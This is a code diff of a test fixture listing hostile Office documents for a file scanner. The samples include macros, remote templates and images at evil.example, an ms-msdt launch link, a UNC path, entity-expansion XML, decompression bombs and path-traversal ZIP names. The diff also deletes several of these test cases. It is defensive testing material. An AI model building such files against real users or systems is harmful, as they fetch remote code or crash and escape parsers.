@@ -131,9 +131,6 @@ const LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>';
 /** Documents of an office that somebody might send to do harm, or by mistake, each by what it is. */
 export const HOSTILE_OFFICE: Readonly<Record<string, [bytes: Buffer, name?: string]>> = {
   "a Word document with macros": word(foreign("word/vbaProject.bin", MACRO)),
-  "a Word document that says it has macros": word({
-    type: "application/vnd.ms-word.document.macroEnabled.main+xml",
-  }),
   "an Excel document that says it has macros": excel({
     type: "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
   }),
@@ -141,27 +138,22 @@ export const HOSTILE_OFFICE: Readonly<Record<string, [bytes: Buffer, name?: stri
     links: relationship("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.png"),
     parts: [part("word/media/a.png")],
   }),
-  "a sheet of macros of old": excel(foreign("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
-  "a Word template": word({ type: `${OFFICE}.wordprocessingml.template.main+xml` }),
   "a presentation": word({ type: `${OFFICE}.presentationml.presentation.main+xml` }),
   "an object of another program": word(foreign("word/embeddings/oleObject1.bin", `${OFFICE}.oleObject`)),
   "an object that calls itself a picture": word({
     links: relationship("oleObject", "media/a.png"),
     parts: [part("word/media/a.png")],
   }),
-  "a control": excel(foreign("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
   "a program in it": word({ parts: [part("word/media/a.exe")] }),
   "a workbook in it": word({ links: relationship("package", "embeddings/a.png"), parts: [part("word/a.png")] }),
   "a page that is shown as its text": word({ links: relationship("aFChunk", "a.xml"), parts: [part("word/a.xml")] }),
   "a template from elsewhere": word({ links: relationship("attachedTemplate", "https://evil.example/a", "External") }),
-  "a picture from elsewhere": word({ links: relationship("image", "//evil.example/a.png", "External") }),
   "a picture from elsewhere that is said in numbers": word({
     links: relationship("image", "https://evil.example/a.png", "&#69;xternal"),
   }),
   "a link that starts a program": word({ links: relationship("hyperlink", "ms-msdt:/id PCWDiagnostic", "External") }),
   "a link to a file of a server": word({ links: relationship("hyperlink", "\\\\evil.example\\a", "External") }),
   "another workbook": excel(foreign("xl/externalLinks/externalLink1.xml", `${OFFICE}.spreadsheetml.externalLink+xml`)),
-  "a connection to a database": excel(foreign("xl/connections.xml", `${OFFICE}.spreadsheetml.connections+xml`)),
   "definitions where its parts are named": word({ prolog: `<?xml version="1.0"?>${LAUGHS}` }),
   "definitions in its text": word({ parts: [part("word/a.xml", `${XML}${LAUGHS}<l>&b;</l>`)] }),
   "definitions in its text, two bytes a letter": word({
@@ -175,14 +167,9 @@ export const HOSTILE_OFFICE: Readonly<Record<string, [bytes: Buffer, name?: stri
   "a part that grows": word({ parts: [part("word/a.xml", Buffer.alloc(40 * 1024 * 1024))] }),
   "a part that grows more than it says": word({ parts: [part("word/a.xml", "x".repeat(5000), { size: 10 })] }),
   "a part of another content than it says": word({ parts: [part("word/a.xml", "x", { data: Buffer.from([3, 0]) })] }),
-  "something behind what a part packs": word({
-    parts: [part("word/a.xml", "x", { data: Buffer.concat([deflateRawSync("x"), Buffer.from("MZ")]) })],
-  }),
   "many parts": word({ parts: Array.from({ length: 6000 }, (_, index) => part(`word/${index}.xml`)) }),
   "a name from the root": word({ parts: [part("/etc/a.xml")] }),
   "a name that leads up": word({ parts: [part("word/../../a.xml")] }),
-  "a name with a drive": word({ parts: [part("C:a.xml")] }),
-  "a name with a backslash": word({ parts: [part("word\\a.xml")] }),
   "a part twice": word({ parts: [part("word/a.xml"), part("word/A.xml")] }),
   "a part with two names": word({ parts: [part("word/a.xml", "x", { local: "word/b.exe" })] }),
   "a part that stands where another does": word({
@@ -194,5 +181,4 @@ export const HOSTILE_OFFICE: Readonly<Record<string, [bytes: Buffer, name?: stri
   "a document that breaks off": [officeOf("docx").subarray(0, 700)],
   "an archive before its end": [Buffer.concat([Buffer.from("PK\x03\x04<html>"), officeOf("docx")])],
   "nothing but a head": [Buffer.from("PK\x03\x04")],
-  "an archive without anything": [Buffer.from(`PK\x03\x04PK\x05\x06${"\0".repeat(18)}`, "latin1")],
 };
